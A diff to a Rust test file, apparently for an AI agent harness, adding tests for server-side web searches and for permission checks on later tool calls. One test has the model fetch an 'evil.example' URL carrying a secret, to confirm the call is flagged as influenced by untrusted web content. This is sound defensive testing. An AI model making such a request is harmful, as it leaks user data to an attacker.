@@ -1,10 +1,12 @@
-//! When a page of the web is fetched without a question.
+//! When a page of the web is fetched without a question, and searches that the service of the model makes.
 
-use super::world::{World, calls, rules, says};
+use super::world::{World, calls, reply, rules, says};
 use crate::agent::Input;
 use crate::ask::{Answer, AskDetail, AskReason, AskScope};
 use crate::event::Event;
 use crate::id::ExecutorId;
+use crate::model::StopReason;
+use crate::prompt::{Role, text_of};
 use crate::rules::{ArgumentField, ArgumentKind, Reach};
 use crate::tool::{CatalogueEntry, Repeat, ToolResult};
 use serde_json::json;
@@ -134,4 +136,71 @@ fn the_answer_to_a_question_names_an_address() {
     let answer = Some(Answer { text: Some("https://mine.example/me".to_owned()), ..Answer::default() });
     world.input(Input::Answer { ask: world.ask().id, answer });
     world.fetch_freely("https://mine.example/me");
+}
+
+/// A search that the service has begun.
+fn search(id: &str) -> serde_json::Value {
+    json!({"type": "server_tool_use", "id": id, "name": "web_search", "input": {"query": "tea"}})
+}
+
+/// What it has found.
+fn found(id: &str) -> serde_json::Value {
+    json!({"type": "web_search_tool_result", "tool_use_id": id, "content": []})
+}
+
+impl World {
+    /// Whether the open request ends with an answer of the model, which the service continues.
+    fn continues(&self) -> bool {
+        self.open_request().messages.last().is_some_and(|message| message.role == Role::Assistant)
+    }
+}
+
+#[test]
+fn what_the_person_says_during_a_search_waits_for_its_result() {
+    let mut world = World::grow();
+    world.say("how hot?");
+    world.answer(reply(json!([search("s1")]), StopReason::PauseTurn));
+    assert!(world.continues());
+    world.say("in Celsius");
+    world.answer(reply(json!([found("s1"), search("s2")]), StopReason::PauseTurn));
+    assert!(world.continues(), "only results may follow the search");
+    world.restart();
+    world.answer(reply(json!([found("s2"), {"type": "text", "text": "70"}]), StopReason::EndTurn));
+    assert!(world.last_user().1.contains("in Celsius"), "{:?}", world.last_user());
+    world.answer(says("21"));
+    assert!(!world.state.is_at_work());
+}
+
+#[test]
+fn only_results_go_to_a_service_that_still_searches() {
+    let mut world = world(&["allow fetch_page"], "how hot? see https://a.example/");
+    let fetch = json!({"type": "tool_use", "id": "t1", "name": "fetch_page", "input": {"url": "https://a.example/"}});
+    world.answer(reply(json!([search("s1"), fetch]), StopReason::ToolUse));
+    world.say("in Celsius");
+    let effect = world.open_tools().remove(0);
+    world.finish(&effect, ToolResult::ok("70"));
+    assert_eq!(world.last_user(), (vec![("70".to_owned(), false)], String::new()));
+    world.answer(reply(json!([found("s1"), {"type": "text", "text": "70"}]), StopReason::EndTurn));
+    assert!(world.last_user().1.contains("in Celsius"), "{:?}", world.last_user());
+}
+
+#[test]
+fn after_a_search_that_was_broken_off_the_past_is_told_anew() {
+    let mut world = World::grow();
+    world.say("how hot?");
+    world.answer(reply(json!([{"type": "text", "text": "I search."}, search("s1")]), StopReason::PauseTurn));
+    world.input(Input::Cancel { tree: true });
+    let kinds = world.say("never mind");
+    assert!(kinds.contains(&"segment_started"), "{kinds:?}");
+    let request = world.open_request();
+    assert!(request.messages.iter().any(|message| text_of(&message.content).contains("I search.")), "{request:?}");
+}
+
+#[test]
+fn what_a_search_has_found_is_text_from_outside() {
+    let mut world = world(&["allow fetch_page"], "how hot?");
+    let fetch = json!({"type": "tool_use", "id": "t1", "name": "fetch_page", "input": {"url": "https://evil.example/?q=secret"}});
+    world.answer(reply(json!([search("s1"), found("s1"), fetch]), StopReason::ToolUse));
+    let Some(AskDetail::Call { why, .. }) = world.ask().detail else { panic!("a call") };
+    assert!(matches!(why, AskReason::Untrusted(sources) if sources == ["web"]));
 }
